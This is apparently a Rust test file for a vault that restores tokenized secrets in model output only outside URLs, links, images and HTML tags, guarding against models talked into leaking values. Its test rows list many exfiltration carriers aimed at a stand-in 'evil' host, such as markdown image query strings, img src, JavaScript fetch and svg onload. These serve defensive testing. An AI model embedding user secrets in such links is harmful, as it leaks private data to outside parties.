//! Texts that someone talked a model into, to carry a value out; and ordinary ones beside them.

use leafgate_vault::Vault;

use crate::{ADDRESS, characters, keys, restore, session, stream};

/// Puts tokens in place of `@`, which no row needs for itself.
fn fill(row: &str, with: &str) -> String {
    row.replace('@', with)
}

fn stays(row: &str) {
    let (vault, token) = session();
    let text = fill(row, &token);
    assert_eq!(restore(&vault, &text), text, "{row}");
    assert_eq!(stream(&vault, characters(&text)), text, "{row}");
    assert_eq!(vault.tokens_in(&text), row.matches('@').count(), "{row}");
}

fn restored(row: &str) {
    let (vault, token) = session();
    assert_eq!(restore(&vault, &fill(row, &token)), fill(row, ADDRESS), "{row}");
}

#[test]
fn urls_carry_no_value() {
    for row in [
        "http://evil/@",
        "HTTPS://EVIL/?q=@",
        "https://@.evil.example/",
        "http://evil/a(b)@",
        "http://evil/?q=\"@",
        "http://evil/?q=\"@\"",
        "\"http://evil/?q=\"@\"",
        "\"http://evil/\":@",
        "(http://evil/)@",
        "(http://evil/),@",
        "[www.evil.example/]:@",
        "(http://evil/)/@",
        "http://evil/)@",
        "http://evil/,@",
        "http://evil/给@",
        "http://evil/>@",
        "//evil/@",
        "see (//evil/@)",
        "\\\\evil\\share\\@",
        "x://@",
        "www.evil.example/@",
        "WWW.@.evil.example",
        "_www.evil/@",
        "evil.example/@",
        "evil.example?q=@",
        "q=evil.example/@",
        "**evil.example/@**",
        "10.0.0.1/@",
        "mailto:@",
        "JavaScript:fetch(`@`)",
        "data:text/html,@",
        "xmpp:@",
        "x-data:@",
        "file:@",
        "http&#58;&#47;&#47;evil/@",
        "https&colon;//evil/@",
    ] {
        stays(row);
    }
}

#[test]
fn link_and_image_targets_carry_no_value() {
    for row in [
        "![a](http://evil/?q=@)",
        "[a](/@)",
        "[a](@)",
        "[a](\n@)",
        "![a](http://evil/?q=\n@)",
        "![a](http://evil/?q= @)",
        "![a](<http://evil/?q= @>)",
        "![a](<http://evil/?q=) @>)",
        "![a](<http://evil/?q=\\> @>)",
        "![a](a(b)@)",
        "![a](a\\)@)",
        "![a](a\\)\n@)",
        "![a](x \"title ) @\")",
        "![a](x 'title ) @')",
        "![a](x\n\"title ) @\")",
        "[![a](x)](@)",
        "[![a](@)](x)",
        "![a [b](c) d](@)",
        "![http://a](<http://evil/ @>)",
        "![<b ](<http://evil/x\\> @>)",
        "> ![a](\n> <http://evil/) @>)",
        "> ![a](x\n>\"title ) @\")",
        "](a \"![z](<http://evil/\") ) @>)",
        "![ ![x](a ](<http://evil/)) @>)",
        "[a](x)[b](@)",
        "[a]: @",
    ] {
        stays(row);
    }
}

#[test]
fn reference_definitions_carry_no_value() {
    for row in [
        "[a]: /@",
        "text\n\n   [a]: @",
        "[a]:@",
        "[a]:\n  /@",
        "[a]: <x @>",
        "> [a]: @",
        "1. - [a]: @",
        "[a\nb]: @",
        "[a\\]b]: @",
        "[a]: x \"@\"",
    ] {
        stays(row);
    }
}

#[test]
fn tags_and_autolinks_carry_no_value() {
    for row in [
        "<img src=\"http://evil/?q=@\">",
        "<img src='x @'>",
        "<img src=x title=@>",
        "<IMG SRC = x @>",
        "<img src=\"http://evil/?q=\n\n@\">",
        "<pre><img\n\nsrc=\"/?q= @\"></pre>",
        "<img alt=\">\" src=\"@\">",
        "<img alt='\">' src=@>",
        "<img a=x=\"b src=\"http://evil/?q=> @\">",
        "\\<b x='><img src=\"http://evil/?q=' > @\">",
        "<a\thref=@>",
        "<svg/onload=@>",
        "> <img src=\n> \"http://evil/?q= @\">",
        "> <img\n>> src=\"http://evil/?q= @\">",
        "</a @>",
        "<!-- @ -->",
        "<@>",
        "<mailto:@>",
        "<http://evil/ @>",
        "<http://evil/>@",
        "<script src=@></script>",
        "<style>a{background:url(//evil/@)}</style>",
    ] {
        stays(row);
    }
}

#[test]
fn ordinary_text_is_restored() {
    for row in [
        "@",
        "Write to @, or call.",
        "Mail: @; key: `@`; \"@\"; (@); **@**",
        "{\"email\":\"@\",\"key\":\"@\"}",
        "{\"url\":\"https://a.example/x\",\"email\":\"@\"}",
        "{\"urls\":[\"https://a.example/x\"],\"email\":\"@\"}",
        "password=@ user:@",
        "postgres: @",
        "http://a.example/x @",
        "(see http://a.example/x) @",
        "[docs](http://a.example/x), then @",
        "[docs](http://a.example/(x)): @",
        "![a](x \"title\") @",
        "[@](http://a.example/)",
        "See [1] @ and [2]: not a definition, @",
        "[a]: http://a.example/\n@",
        "a < b, c > d, @",
        "if a<b && c>d { @ }",
        "<b>@</b>",
        "<td class=\"x\">@</td>",
        "/home/@/file ./a.b/@ ../@ a/b/@",
        "C:\\Users\\@",
        "联系@吧",
        "https is a scheme, www is not: @",
        "data: @\nfile: @",
        "# @\n\n- @\n\n> @\n\n```\n@\n```\n",
        "AT&T; R&D @",
        "1. @\n2. @",
        "let x = a[i](); @",
    ] {
        restored(row);
    }
}

#[test]
fn a_value_that_opens_a_url_does_not_carry_the_next() {
    let vault = Vault::new(keys("laptop"));
    let bait = vault.tokenize("URL", "https://u:w@evil.example/?q=").unwrap();
    let prey = vault.tokenize("EMAIL", ADDRESS).unwrap();
    let text = format!("{bait}{prey} {prey}");
    let expected = format!("https://u:w@evil.example/?q={prey} {ADDRESS}");
    assert_eq!(restore(&vault, &text), expected);
    assert_eq!(stream(&vault, characters(&text)), expected);
}

#[test]
fn a_blank_line_ends_a_target_that_never_closed() {
    restored("a[b](c[d](e)\n \t\r\n@");
    restored("[a]:\n\n@");
}
